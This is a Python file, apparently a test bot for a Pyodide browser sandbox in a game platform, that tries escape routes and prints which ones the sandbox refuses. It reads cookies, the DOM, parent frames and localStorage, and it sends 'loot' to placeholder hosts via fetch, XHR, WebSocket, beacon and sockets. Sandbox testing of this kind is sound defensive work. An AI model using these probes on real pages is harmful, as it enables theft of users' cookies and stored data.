"""A bot that tries to get out of the tab's sandbox, and prints what came of each attempt."""

import json
import socket

import js
from pyodide.code import run_js
from pyodide.ffi import create_proxy
from pyodide.http import pyxhr

report = {}


def note(name, outcome):
    return create_proxy(lambda *_: report.update({name: outcome}))


def events(name, made, good):
    setattr(made, good, note(name, "got"))
    made.onerror = note(name, "refused by an event")


def connect():
    made = socket.create_connection(("127.0.0.1", int("HOST".split(":")[1])), timeout=1)
    made.sendall(b"loot")
    raise ConnectionError("it seems to open; the server knows whether it did")


def xhr():
    ask = js.XMLHttpRequest.new()
    ask.open("GET", "SITE/stolen/xhr", False)
    ask.send()


ATTEMPTS = {
    "cookie": lambda: js.document.cookie,
    "dom": lambda: js.document.body.innerHTML,
    "parent": lambda: js.parent.document.title,
    "top": lambda: setattr(js.top.location, "href", "ELSEWHERE/top"),
    "popup": lambda: js.open("ELSEWHERE/popup"),
    "localStorage": lambda: js.localStorage.getItem("ladle-draft-hot_ramen"),
    "indexedDB": lambda: events("indexedDB", js.indexedDB.open("loot"), "onsuccess"),
    "caches": lambda: js.caches.open("loot"),
    "fetch": lambda: js.fetch("SITE/stolen/fetch"),
    "fetch elsewhere": lambda: js.fetch("ELSEWHERE/fetch"),
    "pyxhr": lambda: pyxhr.get("SITE/stolen/pyxhr").text(),
    "xhr": xhr,
    "socket": lambda: events("socket", js.WebSocket.new("ws://HOST/socket"), "onopen"),
    "posix socket": connect,
    "events": lambda: events("events", js.EventSource.new("ELSEWHERE/events"), "onopen"),
    "beacon": lambda: js.navigator.sendBeacon("ELSEWHERE/beacon", "loot"),
    "importScripts": lambda: js.importScripts("SITE/stolen/script.js"),
    "worker": lambda: events("worker", js.Worker.new("SITE/stolen/worker.js"), "onmessage"),
    "eval": lambda: run_js("1"),
}


def attempt(name):
    report[name] = "waiting"
    try:
        got = ATTEMPTS[name]()
    except BaseException as error:
        report[name] = f"refused {type(error).__name__}"
    else:
        if hasattr(got, "then"):
            got.then(note(name, "got"), note(name, "refused by a promise"))
        elif got is not None:
            report[name] = f"got {got}"


def decide(view):
    if not report:
        for name in ATTEMPTS:
            attempt(name)
    got = {name: one for name, one in report.items() if not one.startswith("refused")}
    print(json.dumps({"tried": len(report), "got": got}))
    return view["legal"][0]
